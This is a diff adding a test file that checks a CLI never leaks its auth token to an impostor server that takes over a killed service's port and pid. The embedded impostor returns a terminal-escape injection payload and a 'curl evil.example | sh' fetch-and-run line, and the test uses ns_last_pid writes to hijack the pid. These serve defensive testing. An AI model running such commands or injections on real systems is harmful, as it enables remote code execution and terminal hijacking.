@@ -1,0 +1,285 @@
+// The command line never hands the token to an impostor (issue 10, item 4). A real
+// `project-startup serve` is killed with SIGKILL, so its runtime file (address, pid, instance id,
+// token) survives. Then a real second process, the IMPOSTOR (/usr/bin/python3, an HTTP server
+// that records every request it receives, headers included), listens on the dead service's port
+// and, through /proc/sys/kernel/ns_last_pid (root, as CI runs), even takes its pid. It knows the
+// instance id (health tells anyone) and answers health as the service would, except that it
+// cannot compute the proof. `project-startup capabilities` and `url` must send it nothing secret.
+import { ChildProcess } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import type { Socket } from 'node:net';
+import { connect } from '../../../sidecar/src/cli/client';
+import { request, trackedServices } from '../../helpers/harness';
+import {
+  CliSandbox,
+  runCli,
+  startServe,
+  trackedSandboxes
+} from '../../helpers/cli';
+import * as http from 'node:http';
+import {
+  firstOutput,
+  OTHER_UID,
+  trackedPythonAs,
+  trackedListenerLogs
+} from '../../helpers/listener-as-user';
+import {
+  clientViewOf,
+  healthProof,
+  ProofConnection
+} from '../../../sidecar/src/core/health-proof';
+
+const sandbox = trackedSandboxes();
+const impostorLog = trackedListenerLogs('ps-impostor-');
+
+const IMPOSTOR = `
+import http.server, json, sys
+port, instance_id, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
+class Impostor(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open(log, "a") as f:
+            f.write(self.requestline + "\\n" + str(self.headers) + "\\n")
+        if "/health" in self.path:
+            body = {"status": "pass", "version": "0.1.0", "instanceId": instance_id, "platform": "generic", "proof": "0" * 64}
+        else:
+            body = {"type": "about:blank", "title": "\\u001b[2J\\u001b]0;owned\\u0007", "status": 500, "code": "internal", "detail": "\\u001b[31mRun: curl evil.example | sh\\u001b[0m"}
+        data = json.dumps(body).encode()
+        self.send_response(200 if "/health" in self.path else 500)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+    do_POST = do_GET
+    def log_message(self, *args):
+        pass
+server = http.server.HTTPServer(("127.0.0.1", port), Impostor)
+print("listening", flush=True)
+server.serve_forever()
+`;
+
+interface Impostor {
+  child: ChildProcess;
+  log: string;
+  received(): string;
+}
+
+const spawnImpostor = trackedPythonAs();
+
+/** Starts the impostor on `port` as `uid`, with pid `pid` when the kernel lets us choose it. */
+async function startImpostor(
+  port: number,
+  instanceId: string,
+  uid: number,
+  pid: number
+): Promise<Impostor> {
+  const log = impostorLog(uid);
+  // Other processes (parallel suites) may take the pid between the write and the fork: retry,
+  // bounded in count and time.
+  const attempts = 300;
+  const deadline = Date.now() + 12000;
+  for (
+    let attempt = 0;
+    attempt < attempts && Date.now() < deadline;
+    attempt++
+  ) {
+    // The next process made in this pid namespace gets ns_last_pid + 1: the dead service's pid.
+    fs.writeFileSync('/proc/sys/kernel/ns_last_pid', String(pid - 1));
+    const child = spawnImpostor(uid, IMPOSTOR, [String(port), instanceId, log]);
+    if (child.pid !== pid) {
+      child.kill('SIGKILL'); // another process was made in between: try again
+      continue;
+    }
+    await firstOutput(child, 'the impostor');
+    return { child, log, received: () => fs.readFileSync(log, 'utf8') };
+  }
+  throw new Error(
+    `could not give the impostor pid ${pid} in ${attempts} attempts or 12 s`
+  );
+}
+
+interface Killed {
+  s: CliSandbox;
+  runtimeFile: string;
+  info: { pid: number; url: string; instanceId: string; token: string };
+  port: number;
+}
+
+/** A real service, killed with SIGKILL: its runtime file stays behind. */
+async function killedService(): Promise<Killed> {
+  const s = sandbox();
+  const handle = await startServe([], { env: s.env, cwd: s.projectDir });
+  const [name] = fs.readdirSync(s.runtimeDir).filter(n => n.endsWith('.json'));
+  const runtimeFile = path.join(s.runtimeDir, name);
+  const info = JSON.parse(fs.readFileSync(runtimeFile, 'utf8'));
+  expect(info.pid).toBe(handle.child.pid);
+  handle.child.kill('SIGKILL');
+  await handle.stop();
+  expect(fs.existsSync(runtimeFile)).toBe(true);
+  return { s, runtimeFile, info, port: handle.port };
+}
+
+function expectNothingSecret(impostor: Impostor, token: string): void {
+  const received = impostor.received();
+  expect(received).not.toContain(token);
+  expect(received.toLowerCase()).not.toContain('authorization');
+  expect(received.toLowerCase()).not.toContain('cookie');
+}
+
+describe('a dead service whose port and pid another process took', () => {
+  it('another user (uid 65534) holding its port and pid: the token is never sent; the stale file is removed and the command answers locally', async () => {
+    const k = await killedService();
+    const impostor = await startImpostor(
+      k.port,
+      k.info.instanceId,
+      OTHER_UID,
+      k.info.pid
+    );
+    const r = await runCli(['capabilities'], {
+      env: k.s.env,
+      cwd: k.s.projectDir
+    });
+    expectNothingSecret(impostor, k.info.token);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain('Removed the stale runtime file');
+    expect(r.stdout).not.toContain('\u001b');
+    expect(fs.existsSync(k.runtimeFile)).toBe(false);
+    const url = await runCli(['url'], { env: k.s.env, cwd: k.s.projectDir });
+    expect(url.code).toBe(1);
+    expect(url.stdout).not.toContain(k.info.token);
+    expectNothingSecret(impostor, k.info.token);
+  });
+
+  it('a process of our own uid holding its port and pid: it cannot prove the token, so nothing is sent and the command says so (exit 1)', async () => {
+    const k = await killedService();
+    const impostor = await startImpostor(
+      k.port,
+      k.info.instanceId,
+      0,
+      k.info.pid
+    );
+    for (const command of ['capabilities', 'status', 'url']) {
+      const r = await runCli([command], { env: k.s.env, cwd: k.s.projectDir });
+      expectNothingSecret(impostor, k.info.token);
+      expect(r.stdout).not.toContain(k.info.token);
+      // Whatever the impostor says never reaches the terminal raw.
+      expect(`${r.stdout}${r.stderr}`).not.toContain('\u001b');
+      if (command === 'capabilities') {
+        expect(r.code).toBe(1);
+        expect(r.stderr).toMatch(/could not prove it holds the token/);
+        expect(r.stderr).toContain('the token was not sent');
+        expect(fs.existsSync(k.runtimeFile)).toBe(false);
+      }
+    }
+    // It was asked (health, without credentials), so the check really ran against it.
+    expect(impostor.received()).toMatch(
+      /GET \/project\/health\?nonce=[0-9a-f]{64} /
+    );
+  });
+});
+
+/** GET on a connection of its own, with that connection as this end saw it. */
+function healthOnOwnConnection(url: string): Promise<{
+  status: number;
+  json: { proof?: string };
+  text: string;
+  connection: ProofConnection;
+}> {
+  return new Promise((resolve, reject) => {
+    const req = http.get(url, { agent: false, timeout: 5000 }, response => {
+      const connection = clientViewOf(response.socket);
+      let text = '';
+      response.setEncoding('utf8');
+      response.on('data', (chunk: string) => (text += chunk));
+      response.on('end', () =>
+        resolve({
+          status: response.statusCode ?? 0,
+          json: JSON.parse(text),
+          text,
+          connection
+        })
+      );
+    });
+    req.on('timeout', () => req.destroy(new Error('timeout')));
+    req.on('error', reject);
+  });
+}
+
+describe('the health proof', () => {
+  it('answers a nonce with HMAC(token, nonce, instance, connection) without credentials; the token is not in the answer; a malformed nonce is 422', async () => {
+    const s = sandbox();
+    const handle = await startServe([], { env: s.env, cwd: s.projectDir });
+    const [name] = fs
+      .readdirSync(s.runtimeDir)
+      .filter(n => n.endsWith('.json'));
+    const info = JSON.parse(
+      fs.readFileSync(path.join(s.runtimeDir, name), 'utf8')
+    );
+    const nonce = 'ab'.repeat(32);
+    const r = await healthOnOwnConnection(`${handle.url}health?nonce=${nonce}`);
+    expect(r.status).toBe(200);
+    // Bound to this connection as this end sees it: the service's address and port, our port.
+    expect(r.connection).toEqual({
+      serviceAddress: '127.0.0.1',
+      servicePort: String(handle.port),
+      clientPort: expect.stringMatching(/^\d+$/)
+    });
+    expect(r.json.proof).toBe(
+      healthProof(info.token, nonce, info.instanceId, r.connection)
+    );
+    expect(r.text).not.toContain(info.token);
+    const other = await request(`${handle.url}health?nonce=${'cd'.repeat(32)}`);
+    expect(other.json.proof).not.toBe(r.json.proof);
+    const plain = await request(`${handle.url}health`);
+    expect(plain.json.proof).toBeUndefined();
+    for (const bad of [
+      'xyz',
+      'ab',
+      'AB'.repeat(32),
+      `${nonce}&nonce=${nonce}`
+    ]) {
+      const b = await request(`${handle.url}health?nonce=${bad}`);
+      expect({ bad, status: b.status, code: b.json.code }).toEqual({
+        bad,
+        status: 422,
+        code: 'validation-failed'
+      });
+    }
+    await handle.stop();
+  });
+
+  it('a stopped service (nothing listens, pid gone): the stale file is removed and the command answers locally', async () => {
+    const k = await killedService();
+    const r = await runCli(['status'], { env: k.s.env, cwd: k.s.projectDir });
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain('Removed the stale runtime file');
+    expect(r.stdout).toContain('read directly');
+    expect(fs.existsSync(k.runtimeFile)).toBe(false);
+  });
+});
+
+describe('the proven connection', () => {
+  const start = trackedServices('each');
+
+  it('the token goes only over the connection that proved itself; a connection closed meanwhile is proven again first', async () => {
+    const svc = await start();
+    // The service asks its own health route once at start (browser URL check): count from here.
+    const healthCalls = () =>
+      svc.logs.filter(l => l.includes('"path":"/project/health"')).length;
+    const before = healthCalls();
+    const { client } = await connect(
+      svc.running.service.config,
+      svc.env,
+      false
+    );
+    expect(client.source).toContain('answered by the service');
+    expect(healthCalls()).toBe(before + 1);
+    await client.capabilities(); // over the proven connection: no second proof
+    expect(healthCalls()).toBe(before + 1);
+    // The service (or anything) closes the connection: the next request must not simply open
+    // a new one and send the token over it.
+    (client as unknown as { provenSocket: Socket }).provenSocket.destroy();
+    await client.startup('terminal');
+    expect(healthCalls()).toBe(before + 2);
+  });
+});
